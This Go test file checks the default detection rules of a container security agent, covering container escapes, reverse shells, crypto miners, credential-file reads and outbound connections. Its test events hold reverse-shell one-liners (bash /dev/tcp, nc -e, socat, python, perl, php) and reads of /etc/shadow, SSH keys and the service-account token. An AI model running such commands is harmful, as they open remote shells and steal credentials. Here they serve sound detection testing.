package defaults_test

import (
	"net/netip"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"riposte/agent/event"
	"riposte/agent/rules"
	"riposte/agent/rules/defaults"
)

// change makes another event out of an ordinary one.
type change func(e *event.Event)

// inContainer is the start of every event here: nginx, the first process of a
// container, has started a shell without a terminal, which has started prog.
func inContainer(prog string, changes ...change) *event.Event {
	c := &event.Container{ID: strings.Repeat("ab", 32), Repository: "registry.example.com/shop"}
	shim := &event.Process{PID: 1, Comm: "containerd-shim", Container: event.Host}
	nginx := &event.Process{PID: 10, VPID: 1, Comm: "nginx", Exe: "nginx", ExePath: "/usr/sbin/nginx", Container: c, Parent: shim}
	p := &event.Process{PID: 11, VPID: 2, PPID: 10, Comm: prog, Exe: prog, ExePath: "/usr/bin/" + prog, Container: c, Parent: nginx}
	e := &event.Event{Num: 1, Proc: p}
	for _, f := range changes {
		f(e)
	}
	return e
}

func onHost(e *event.Event) {
	for p := e.Proc; p != nil; p = p.Parent {
		p.Container = event.Host
	}
}

func terminal(e *event.Event) { e.Proc.TTY = 34816 }

func args(a ...string) change { return func(e *event.Event) { e.Proc.Args = a } }

// parent puts another process between prog and nginx.
func parent(comm string) change {
	return func(e *event.Event) {
		e.Proc.Parent = &event.Process{PID: 12, Comm: comm, Container: e.Proc.Container, Parent: e.Proc.Parent}
	}
}

func image(repository string) change {
	return func(e *event.Event) { e.Proc.Container.Repository = repository }
}

func upperLayer(e *event.Event) { e.Proc.ExeUpperLayer = true }

func memfd(path string) change {
	return func(e *event.Event) { e.Proc.ExeMemfd, e.Proc.ExePath = true, path }
}

// starts is a successful exec.
func starts(e *event.Event) { e.Type = event.Execve }

func failed(e *event.Event) { e.Ret, e.File.Num = -13, -1 }

func opens(name string, flags uint32) change {
	return func(e *event.Event) {
		e.Type, e.Ret = event.Openat, 3
		e.File = event.File{Kind: event.KindFile, Num: 3, Name: name, NameRaw: name, RealPath: name, Flags: flags}
	}
}

func reads(name string) change { return opens(name, 0) }

func writes(name string) change { return opens(name, 0o1101) }

// reaches opens name, which is a link to another file.
func reaches(name, real string) change {
	return func(e *event.Event) {
		reads(name)(e)
		e.File.RealPath = real
	}
}

func connects(remote string) change {
	return func(e *event.Event) {
		e.Type = event.Connect
		to := netip.MustParseAddrPort(remote)
		e.File = event.File{Kind: event.KindIPv4, Num: 4, Name: "10.1.1.1:40000->" + remote, Socket: event.Socket{
			Local: netip.MustParseAddrPort("10.1.1.1:40000"), Remote: to, L4: 6, Role: event.RoleClient,
		}}
		if to.Addr().Is6() {
			e.File.Kind = event.KindIPv6
		}
	}
}

func inProgress(e *event.Event) { e.Ret = -115 }

func connectsUnix(path string) change {
	return func(e *event.Event) {
		e.Type = event.Connect
		e.File = event.File{Kind: event.KindUnix, Num: 4, Name: path}
	}
}

// fired names the rule that fires in either view of the file's name.
func fired(rs *rules.Ruleset, e *event.Event) (name string) {
	fire := func(r *rules.Rule) { name = r.Name }
	if rs.Match(e, fire); name == "" && e.NameDiffers() {
		e.RealView = true
		rs.Match(e, fire)
	}
	return name
}

const (
	releaseAgent  = "Write to release_agent in a container"
	helperPath    = "Write to a kernel helper path in a container"
	runtimeSocket = "Container runtime socket used from a container"
	fromMemory    = "Program started from memory in a container"
	miner         = "Crypto miner started in a container"
	reverseCmd    = "Reverse shell command in a container"
	reverse       = "Reverse shell in a container"
	dropped       = "Dropped binary started in a container"
	packages      = "Package manager started in a container"
	shell         = "Terminal shell in a container"
	sensitive     = "Sensitive file read by a shell in a container"
	sensitiveToo  = "Sensitive file read by an unexpected program in a container"
	token         = "Service account token read by an unexpected program"
	belowEtc      = "Write below etc in a container"
	minerPort     = "Connection to a usual mining port from a container"
	outbound      = "Outbound connection by an unexpected program in a container"
)

const tokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token"

func TestDefaultRules(t *testing.T) {
	rs, err := defaults.Load()
	require.NoError(t, err)
	require.Empty(t, rs.Warnings)

	covered := map[string]int{}
	for name, tc := range map[string]struct {
		e    *event.Event
		want string
	}{
		"release_agent":                    {inContainer("sh", writes("/mnt/cgroup/release_agent")), releaseAgent},
		"release_agent, other mount":       {inContainer("sh", writes("/sys/fs/cgroup/rdma/release_agent")), releaseAgent},
		"release_agent by a link":          {inContainer("sh", func(e *event.Event) { writes("/tmp/x")(e); e.File.RealPath = "/tmp/cg/release_agent" }), releaseAgent},
		"release_agent by creat":           {inContainer("sh", writes("/mnt/release_agent"), func(e *event.Event) { e.Type = event.Creat }), releaseAgent},
		"release_agent read":               {inContainer("sh", reads("/mnt/cgroup/release_agent")), ""},
		"release_agent refused":            {inContainer("sh", writes("/mnt/cgroup/release_agent"), failed), ""},
		"release_agent on the host":        {inContainer("sh", writes("/sys/fs/cgroup/release_agent"), onHost), ""},
		"core_pattern":                     {inContainer("sh", writes("/proc/sys/kernel/core_pattern")), helperPath},
		"uevent_helper":                    {inContainer("sh", writes("/sys/kernel/uevent_helper")), helperPath},
		"core_pattern read":                {inContainer("sh", reads("/proc/sys/kernel/core_pattern")), ""},
		"docker socket":                    {inContainer("docker", connectsUnix("/var/run/docker.sock")), runtimeSocket},
		"containerd socket":                {inContainer("ctr", connectsUnix("/run/containerd/containerd.sock")), runtimeSocket},
		"other socket":                     {inContainer("php", connectsUnix("/run/mysqld/mysqld.sock")), ""},
		"docker socket on the host":        {inContainer("docker", connectsUnix("/var/run/docker.sock"), onHost), ""},
		"memfd":                            {inContainer("3", starts, memfd("/memfd:x (deleted)")), fromMemory},
		"memfd of runc":                    {inContainer("runc", starts, memfd("/memfd:runc_cloned:/proc/self/exe (deleted)")), ""},
		"memfd on the host":                {inContainer("3", starts, memfd("/memfd:x (deleted)"), onHost), ""},
		"xmrig":                            {inContainer("xmrig", starts), miner},
		"renamed miner":                    {inContainer("worker", starts, args("-o", "stratum+tcp://pool.example.com:3333")), miner},
		"failed start of a miner":          {inContainer("xmrig", starts, failed), ""},
		"nginx starts":                     {inContainer("nginx", starts), ""},
		"bash /dev/tcp":                    {inContainer("bash", starts, args("-c", "bash -i >& /dev/tcp/1.2.3.4/9001 0>&1")), reverseCmd},
		"nc -e":                            {inContainer("nc", starts, args("1.2.3.4", "9001", "-e", "/bin/sh")), reverseCmd},
		"nc -c":                            {inContainer("ncat", starts, args("1.2.3.4", "9001", "--sh-exec", "bash -i")), reverseCmd},
		"nc -nve":                          {inContainer("nc", starts, args("-nve", "/bin/bash", "1.2.3.4", "9001")), reverseCmd},
		"nc -z":                            {inContainer("nc", starts, args("-z", "db", "5432")), ""},
		"nc -vz a host that ends with sh":  {inContainer("nc", starts, args("-vz", "refresh", "80")), ""},
		"socat exec":                       {inContainer("socat", starts, args("TCP:1.2.3.4:1", "EXEC:/bin/sh,pty")), reverseCmd},
		"socat between sockets":            {inContainer("socat", starts, args("TCP-LISTEN:80", "UNIX-CONNECT:/x")), ""},
		"python":                           {inContainer("python3", starts, args("-c", `import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")`)), reverseCmd},
		"python of an application":         {inContainer("python3", starts, args("/app/socket_server.py")), ""},
		"perl":                             {inContainer("perl", starts, args("-e", `use Socket;socket(S,2,1,6);exec("/bin/sh -i");`)), reverseCmd},
		"php":                              {inContainer("php", starts, args("-r", `$s=fsockopen("1.2.3.4",1);exec("sh <&3 >&3");`)), reverseCmd},
		"bash of an entry point":           {inContainer("bash", starts, args("/docker-entrypoint.sh")), ""},
		"shell connects":                   {inContainer("bash", connects("1.2.3.4:9001")), reverse},
		"shell connects to a neighbour":    {inContainer("sh", connects("10.9.9.9:4444")), reverse},
		"shell connects and does not wait": {inContainer("bash", connects("1.2.3.4:9001"), inProgress), reverse},
		"shell connects by IPv6":           {inContainer("bash", connects("[2001:db8::1]:9001")), reverse},
		"shell is refused":                 {inContainer("bash", connects("1.2.3.4:9001"), failed), ""},
		"shell connects to itself":         {inContainer("bash", connects("127.0.0.1:8080")), ""},
		"shell looks up a name":            {inContainer("bash", connects("10.96.0.10:53")), ""},
		"shell on the host connects":       {inContainer("bash", connects("1.2.3.4:9001"), onHost), ""},
		"program connects":                 {inContainer("nginx", connects("1.2.3.4:443")), ""},
		"dropped binary":                   {inContainer("kit", starts, upperLayer), dropped},
		"dropped by a package manager":     {inContainer("preinst", starts, upperLayer, parent("dpkg")), ""},
		"dropped on the host":              {inContainer("kit", starts, upperLayer, onHost), ""},
		"apt-get":                          {inContainer("apt-get", starts, args("install", "nmap")), packages},
		"apk":                              {inContainer("apk", starts, args("add", "curl")), packages},
		"dpkg by apt-get":                  {inContainer("dpkg", starts, parent("apt-get")), ""},
		"apt-get on the host":              {inContainer("apt-get", starts, onHost), ""},
		"kubectl exec":                     {inContainer("bash", starts, terminal), shell},
		"shell of a script":                {inContainer("sh", starts, args("-c", "date")), ""},
		"terminal without a shell":         {inContainer("psql", starts, terminal), ""},
		"terminal shell on the host":       {inContainer("bash", starts, terminal, onHost), ""},
		"shadow by the shell":              {inContainer("sh", reads("/etc/shadow"), terminal), sensitive},
		"shadow by cat":                    {inContainer("cat", reads("/etc/shadow"), terminal, parent("bash")), sensitive},
		"shadow by timeout's cat":          {inContainer("cat", reads("/etc/shadow"), parent("timeout"), terminal, parent("zsh")), sensitive},
		"shadow by a link":                 {inContainer("cat", reaches("/tmp/x", "/etc/shadow"), terminal, parent("sh")), sensitive},
		"a link away from shadow":          {inContainer("cat", reaches("/etc/shadow", "/tmp/x"), terminal, parent("sh")), sensitive},
		"sudoers":                          {inContainer("less", reads("/etc/sudoers.d/x"), terminal, parent("ash")), sensitive},
		"private key":                      {inContainer("cat", reads("/root/.ssh/id_ed25519"), terminal, parent("sh")), sensitive},
		"public key":                       {inContainer("cat", reads("/root/.ssh/id_ed25519.pub"), terminal, parent("sh")), ""},
		"host key":                         {inContainer("cat", reads("/etc/ssh/ssh_host_rsa_key"), terminal, parent("sh")), sensitive},
		"shadow by passwd":                 {inContainer("passwd", reads("/etc/shadow"), terminal, parent("bash")), ""},
		"shadow by sudo":                   {inContainer("sudo", reads("/etc/sudoers"), terminal, parent("bash")), ""},
		"shadow in an installation":        {inContainer("cat", reads("/etc/shadow"), parent("dpkg"), terminal, parent("bash")), ""},
		"shadow refused":                   {inContainer("cat", reads("/etc/shadow"), terminal, parent("sh"), failed), ""},
		"passwd file":                      {inContainer("cat", reads("/etc/passwd"), terminal, parent("sh")), ""},
		"shadow on the host":               {inContainer("cat", reads("/etc/shadow"), terminal, parent("sh"), onHost), ""},
		"shadow without a terminal":        {inContainer("php-fpm", reads("/etc/shadow")), sensitiveToo},
		"shadow by a web shell":            {inContainer("cat", reads("/etc/shadow"), parent("sh")), sensitiveToo},
		"shadow by cron":                   {inContainer("cron", reads("/etc/shadow")), ""},
		"host key by sshd":                 {inContainer("sshd", reads("/etc/ssh/ssh_host_rsa_key")), ""},
		"token by cat":                     {inContainer("cat", reads(tokenPath), parent("sh")), token},
		"token by its real name":           {inContainer("cat", reaches("/tmp/t", "/run/secrets/kubernetes.io/serviceaccount/..2024/token")), token},
		"token by curl":                    {inContainer("curl", reads(tokenPath)), token},
		"token by the application":         {inContainer("controller", reads(tokenPath)), ""},
		"certificate by cat":               {inContainer("cat", reads("/var/run/secrets/kubernetes.io/serviceaccount/ca.crt")), ""},
		"cron entry":                       {inContainer("sh", writes("/etc/cron.d/x")), belowEtc},
		"preload":                          {inContainer("tee", writes("/etc/ld.so.preload")), belowEtc},
		"creat below etc":                  {inContainer("sh", writes("/etc/x"), func(e *event.Event) { e.Type = event.Creat }), belowEtc},
		"nginx configures itself":          {inContainer("envsubst", writes("/etc/nginx/conf.d/default.conf")), ""},
		"hosts":                            {inContainer("sh", writes("/etc/hosts")), ""},
		"installation writes etc":          {inContainer("dpkg", writes("/etc/x"), parent("apt-get")), ""},
		"useradd":                          {inContainer("useradd", writes("/etc/passwd")), ""},
		"etc is read":                      {inContainer("sh", reads("/etc/hosts")), ""},
		"write elsewhere":                  {inContainer("sh", writes("/tmp/etc/x")), ""},
		"etc on the host":                  {inContainer("sh", writes("/etc/x"), onHost), ""},
		"pool":                             {inContainer("worker", connects("203.0.113.9:3333")), minerPort},
		"pool's port at home":              {inContainer("worker", connects("10.3.3.3:3333")), ""},
		"curl to the world":                {inContainer("curl", connects("203.0.113.9:443")), outbound},
		"wget does not wait":               {inContainer("wget", connects("203.0.113.9:80"), inProgress), outbound},
		"dropped binary connects":          {inContainer("kit", connects("203.0.113.9:443"), upperLayer), outbound},
		"memfd connects":                   {inContainer("3", connects("203.0.113.9:443"), memfd("/memfd:x")), outbound},
		"curl to a service":                {inContainer("curl", connects("10.96.0.1:443")), ""},
		"curl to itself":                   {inContainer("curl", connects("127.0.0.1:80")), ""},
		"curl of apt":                      {inContainer("curl", connects("203.0.113.9:443"), parent("apt-get")), ""},
		"curl on the host":                 {inContainer("curl", connects("203.0.113.9:443"), onHost), ""},
		"process ends":                     {inContainer("sh", func(e *event.Event) { e.Type = event.ProcExit }), ""},
	} {
		t.Run(name, func(t *testing.T) {
			require.Equal(t, tc.want, fired(rs, tc.e))
			covered[tc.want]++
		})
	}
	for _, r := range rs.Rules() {
		require.NotZero(t, covered[r.Name], "no event fires %q", r.Name)
		require.NotEmpty(t, r.Tags)
		require.NotEmpty(t, r.Types, "%q asks for events that are not captured", r.Name)
		require.Contains(t, r.Output, "%proc.cmdline", r.Name)
	}
}

// The lists and macros that begin with "known_" are there to be changed.
func TestAllowLists(t *testing.T) {
	change := rules.File{Name: "local.yaml", Content: []byte(`
- list: known_package_manager_images
  items: [registry.example.com/build]
  override: {items: append}
- macro: known_terminal_shell
  condition: (container.image.repository = registry.example.com/debug)
- rule: Crypto miner started in a container
  enabled: false
  override: {enabled: replace}
`)}
	rs, err := defaults.Load(change)
	require.NoError(t, err)
	require.Empty(t, rs.Warnings)
	require.Empty(t, fired(rs, inContainer("apt-get", starts, image("registry.example.com/build"))))
	require.Equal(t, packages, fired(rs, inContainer("apt-get", starts)))
	require.Empty(t, fired(rs, inContainer("bash", starts, terminal, image("registry.example.com/debug"))))
	require.Equal(t, shell, fired(rs, inContainer("bash", starts, terminal)))
	require.Empty(t, fired(rs, inContainer("xmrig", starts)))
}

// stream is a mix of what a node does all day: hardly anything of it matches.
func stream() []*event.Event {
	var all []*event.Event
	for range 50 {
		all = append(all,
			inContainer("nginx", reads("/usr/share/nginx/html/index.html")),
			inContainer("nginx", reads("/etc/nginx/nginx.conf")),
			inContainer("postgres", opens("/var/lib/postgresql/data/base/16384/2619", 2)),
			inContainer("node", reads("/app/node_modules/express/lib/router/index.js")),
			inContainer("node", connects("10.96.0.10:5432")),
			inContainer("nginx", connects("10.1.2.3:8080"), inProgress),
			inContainer("sh", starts, args("-c", "date +%s && test -f /tmp/healthy")),
			inContainer("date", starts, args("+%s"), parent("sh")),
			inContainer("systemd-journal", writes("/var/log/journal/x/system.journal"), onHost),
			inContainer("kubelet", reads("/sys/fs/cgroup/kubepods/cpu.stat"), onHost),
		)
	}
	return all
}

func TestQuietStreamMatchesNothingAndDoesNotAllocate(t *testing.T) {
	rs, err := defaults.Load()
	require.NoError(t, err)
	events := stream()
	count := 0
	fire := func(*rules.Rule) { count++ }
	run := func() {
		for _, e := range events {
			rs.Match(e, fire)
		}
	}
	run()
	require.Zero(t, count)
	require.Zero(t, testing.AllocsPerRun(10, run))
}

func BenchmarkMatchNothing(b *testing.B) {
	rs, err := defaults.Load()
	require.NoError(b, err)
	events := stream()
	fire := func(*rules.Rule) {}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rs.Match(events[i%len(events)], fire)
	}
}

func BenchmarkMatchAndFormat(b *testing.B) {
	rs, err := defaults.Load()
	require.NoError(b, err)
	e := inContainer("cat", reads("/etc/shadow"), terminal, parent("bash"))
	n := 0
	fire := func(r *rules.Rule) {
		r.Format(e)
		n++
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		rs.Match(e, fire)
	}
	require.Equal(b, b.N, n)
}

func BenchmarkLoad(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, err := defaults.Load()
		require.NoError(b, err)
	}
}
